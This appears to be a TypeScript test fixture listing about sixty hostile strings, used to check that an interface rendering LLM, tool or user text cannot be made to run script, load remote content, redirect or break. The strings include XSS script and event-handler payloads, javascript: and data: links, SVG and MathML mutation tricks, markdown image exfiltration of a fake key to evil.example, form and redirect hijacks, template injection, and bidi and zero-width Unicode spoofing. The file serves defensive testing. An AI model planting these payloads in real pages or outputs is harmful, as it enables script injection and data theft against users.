/** Sixty texts that an LLM, a tool or a name may hold in order to run a script, load something, link elsewhere, or break a page. */

/** The script in these texts: if it ever runs, `hacked` is on the window. */
const call = "window.hacked=1";

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type="module">${call}</script>`,
  `<<script>${call}//<</script>`,
  `</textarea><script>${call}</script>`,
  `</style></title></noscript><script>${call}</script>`,
  `<!--><script>${call}</script>-->`,
  `<![CDATA[<script>${call}</script>]]>`,
  `<scr\0ipt>${call}</scr\0ipt>`,
  `\u003cscript\u003e${call}\u003c/script\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `%3Cscript%3E${call}%3C/script%3E`,
];

const handlers = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "iframe",
  "details open",
  "input autofocus",
];
const events = ["onerror", "onload", "onload", "onerror", "onerror", "onload", "ontoggle", "onfocus"];
const attributes = handlers.map((tag, place) => `<${tag} ${events[place]}="${call}">`);

const elements = [
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin="${call}" attributeName="x" dur="1s"></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${call}"></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<form action="https://evil.example"><input name="key"><button>Go</button></form>`,
  `<a href="javascript:${call}">click</a>`,
  `<template><img src=x onerror="${call}"></template>`,
];

const markdown = [
  `[click](javascript:${call})`,
  `[click](data:text/html,<script>${call}</script>)`,
  `![pixel](https://evil.example/pixel.png?key=svc_sk_live)`,
  `![x](x"onerror="${call})`,
  `<javascript:${call}>`,
  `[x]: https://evil.example "${call}"`,
  "```html\n<script>window.hacked=1</script>\n```",
  `| <img src=x onerror=${call}> |\n|---|`,
  `https://evil.example/?q=secret`,
  `$\\href{javascript:${call}}{x}$`,
];

const directions = [
  "\u202Egnp.exe\u202C",
  "\u2066\u2067\u2068hidden\u2069\u2069\u2069",
  "שלום <b>עולם</b> abc",
  "مرحبا (1) [2] {3}",
  "\u200B\u200C\u200D\uFEFFzero width",
  `${"\u0301".repeat(200)}combining`,
  "🏳️‍🌈👩‍👩‍👧‍👦 \uD83D lone surrogate \uDE00",
  "\u2028line\u2029paragraph",
];

const shapes = [
  "x".repeat(5_000),
  `${"\t".repeat(500)}end`,
  "\r\n\r\n\rcarriage",
  "\u0007\u001B[31mred\u001B[0m",
  "{{constructor.constructor('window.hacked=1')()}}",
  `\${${call}}`,
  `"onmouseover="${call}" x="`,
  `'-${call}-'`,
];

export const hostileTexts: readonly string[] = [
  ...scripts,
  ...attributes,
  ...elements,
  ...markdown,
  ...directions,
  ...shapes,
];
